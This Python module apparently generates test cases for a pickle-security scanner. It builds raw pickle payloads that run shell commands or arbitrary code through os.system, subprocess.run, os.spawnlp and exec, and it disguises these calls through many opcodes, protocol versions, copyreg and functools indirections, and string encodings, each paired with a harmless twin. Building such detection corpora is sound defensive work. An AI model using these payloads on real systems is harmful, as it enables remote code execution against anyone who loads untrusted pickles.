"""Every opcode that calls, in every protocol, and every way to spell names and arguments."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, SOURCE, harmless, pushed
from corpora.case import Case, Technique
from telamon.kits.attacks.pickles import (
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    PROTO,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    Program,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

ARGUMENT: Final = pushed(COMMAND)
TEXT: Final = COMMAND.encode()
SIZE: Final = len(TEXT)
SYSTEM: Final = b"cos\nsystem\n"
PARTIAL: Final = b"cfunctools\npartial\n"


def cases() -> Iterator[Case]:
    """Yield the calls, then the spellings."""
    for name, body in _calls():
        yield Case(name=name, technique=Technique.OPCODES, data=PROTO + b"\x04" + body + STOP)
    for protocol in range(6):
        head = PROTO + bytes([protocol]) if protocol >= 2 else b""  # noqa: PLR2004  # PROTO came with 2
        for name, push, twin in _by_protocol(protocol):
            yield Case(
                name=f"{name}-protocol-{protocol}",
                technique=Technique.OPCODES,
                data=head + push + STOP,
                twin=head + twin + STOP,
            )
    for name, body, twin in _spellings():
        yield Case(
            name=name,
            technique=Technique.SPELLINGS,
            data=PROTO + b"\x05" + body + STOP,
            twin=PROTO + b"\x05" + twin + STOP,
        )


def _by_protocol(protocol: int) -> Iterator[tuple[str, bytes, bytes]]:
    program = Program(protocol=protocol).global_("os", "system").body
    good = Program(protocol=protocol).global_("collections", "OrderedDict").body
    argument = b"S'" + TEXT + b"'\n" if protocol == 0 else ARGUMENT
    yield "reduce", program + MARK + argument + TUPLE + REDUCE, harmless(protocol).body
    yield "obj", MARK + program + argument + OBJ, MARK + good + OBJ
    yield "inst", MARK + argument + b"ios\nsystem\n", MARK + b"icollections\nOrderedDict\n"


def _calls() -> Iterator[tuple[str, bytes]]:
    made = PARTIAL + MARK + SYSTEM + ARGUMENT + TUPLE
    mapped = b"cbuiltins\nmap\n" + MARK + SYSTEM + b"](" + ARGUMENT + b"e" + TUPLE + NEWOBJ
    yield "newobj-partial-then-reduce", made + NEWOBJ + EMPTY_TUPLE + REDUCE
    yield "newobj-ex-partial-then-reduce", made + EMPTY_DICT + NEWOBJ_EX + EMPTY_TUPLE + REDUCE
    yield (
        "newobj-ex-with-keyword",
        PARTIAL + MARK + b"csubprocess\nrun\n" + TUPLE + pushed({"args": ["sh", "-c", COMMAND]}) + NEWOBJ_EX + b")R",
    )
    yield "reduce-partial-then-obj", MARK + made + REDUCE + OBJ
    for drain in ("tuple", "frozenset", "bytes"):
        yield f"newobj-{drain}-of-map", b"cbuiltins\n" + drain.encode() + b"\n" + mapped + b"\x85" + NEWOBJ
    yield "reduce-list-of-map", b"cbuiltins\nlist\n" + mapped + b"\x85" + REDUCE
    yield "appends-to-list-from-map", b"ccollections\ndeque\n" + mapped + b"\x85" + REDUCE
    yield (
        "reconstructor",
        (
            b"ccopyreg\n_reconstructor\n"
            + MARK
            + PARTIAL
            + PARTIAL
            + SYSTEM
            + TUPLE
            + REDUCE
            + ARGUMENT
            + b"\x85"
            + REDUCE
        ),
    )
    yield "copyreg-newobj", b"ccopyreg\n__newobj__\n" + MARK + PARTIAL + SYSTEM + ARGUMENT + TUPLE + REDUCE + b")R"
    yield (
        "copyreg-newobj-ex",
        b"ccopyreg\n__newobj_ex__\n"
        + MARK
        + PARTIAL
        + MARK
        + SYSTEM
        + ARGUMENT
        + TUPLE
        + b"}"
        + TUPLE
        + REDUCE
        + b")R",
    )
    yield "newobj-function-type", _function() + NEWOBJ + EMPTY_TUPLE + REDUCE
    yield "obj-result-discarded", MARK + SYSTEM + ARGUMENT + OBJ + b"0N"
    yield "inst-result-discarded-by-pop-mark", b"((" + ARGUMENT + b"ios\nsystem\n1N"
    yield "call-as-dictionary-key", b"}(" + SYSTEM + ARGUMENT + b"\x85RNu"
    yield "call-as-persistent-id", SYSTEM + ARGUMENT + b"\x85RQ"
    yield "call-as-state", b"ccollections\nOrderedDict\n)R" + SYSTEM + ARGUMENT + b"\x85R0}b"
    yield "call-as-module-name", SYSTEM + ARGUMENT + b"\x85R0" + pushed("os") + pushed("getcwd") + STACK_GLOBAL
    yield (
        "call-within-arguments-of-a-harmless-call",
        (b"ccollections\nOrderedDict\n" + MARK + b"](" + SYSTEM + ARGUMENT + b"\x85RNe0" + TUPLE + REDUCE),
    )


def _function() -> bytes:
    """The class and arguments of `types.FunctionType(compile(...), {})`."""
    compiled = b"cbuiltins\ncompile\n" + pushed((SOURCE, "", "exec")) + REDUCE
    return b"ctypes\nFunctionType\n" + MARK + compiled + b"}" + TUPLE


def _spellings() -> Iterator[tuple[str, bytes, bytes]]:
    spelled = {
        "string": b"S'" + TEXT + b"'\n",
        "string-double-quotes": b'S"' + TEXT + b'"\n',
        "string-escaped": b"S'" + b"".join(b"\\x%02x" % byte for byte in TEXT) + b"'\n",
        "string-octal": b"S'" + b"".join(b"\\%03o" % byte for byte in TEXT) + b"'\n",
        "binstring": b"T" + struct.pack("<i", SIZE) + TEXT,
        "short-binstring": b"U" + bytes([SIZE]) + TEXT,
        "unicode": b"V" + TEXT + b"\n",
        "unicode-escaped": b"V" + b"".join(b"\\u%04x" % byte for byte in TEXT) + b"\n",
        "binunicode": b"X" + struct.pack("<I", SIZE) + TEXT,
        "short-binunicode": b"\x8c" + bytes([SIZE]) + TEXT,
        "binunicode8": b"\x8d" + struct.pack("<Q", SIZE) + TEXT,
        "binbytes": b"B" + struct.pack("<I", SIZE) + TEXT,
        "short-binbytes": b"C" + bytes([SIZE]) + TEXT,
        "binbytes8": b"\x8e" + struct.pack("<Q", SIZE) + TEXT,
    }
    for name, push in spelled.items():
        yield f"argument-{name}", SYSTEM + push + b"\x85" + REDUCE, b"]" + push + b"a"
    for name, code in {"tuple1": b"\x85", "reduce-list": b"", "mark-tuple": TUPLE}.items():
        if code:
            start = MARK if code == TUPLE else b""
            yield f"arguments-{name}", SYSTEM + start + ARGUMENT + code + REDUCE, start + ARGUMENT + code
    two = b"cos\nputenv\n" + pushed("TELAMON") + pushed("1") + b"\x86" + REDUCE
    yield "arguments-tuple2", two, pushed("TELAMON") + pushed("1") + b"\x86"
    three = b"cos\nspawnlp\n" + pushed(0) + pushed("true") + pushed("true") + b"\x87" + REDUCE
    yield "arguments-tuple3", three, pushed(0) + pushed("true") + pushed("true") + b"\x87"
    for name, module, attribute in (
        ("string", b"S'os'\n", b"S'system'\n"),
        ("short-binstring", b"U\x02os", b"U\x06system"),
        ("unicode", b"Vos\n", b"Vsystem\n"),
        ("unicode-escaped", b"V\\u006fs\n", b"Vs\\u0079stem\n"),
        ("short-binunicode", b"\x8c\x02os", b"\x8c\x06system"),
        ("binunicode8", b"\x8d" + struct.pack("<Q", 2) + b"os", b"\x8d" + struct.pack("<Q", 6) + b"system"),
    ):
        looked_up = module + attribute + STACK_GLOBAL
        yield f"names-{name}", looked_up + ARGUMENT + b"\x85" + REDUCE, module + attribute + b"\x86"
